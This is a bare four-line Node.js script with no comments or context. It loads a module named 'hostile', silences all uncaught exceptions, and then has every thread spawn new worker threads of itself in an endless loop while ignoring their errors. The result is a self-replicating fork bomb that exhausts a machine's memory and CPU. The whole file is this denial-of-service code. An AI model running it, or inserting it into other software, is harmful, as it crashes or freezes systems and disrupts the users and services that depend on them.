const { Worker, isMainThread } = require('worker_threads');
if (isMainThread) require('./hostile');
process.on('uncaughtException', () => {});
for (;;) new Worker(__filename).on('error', () => {});
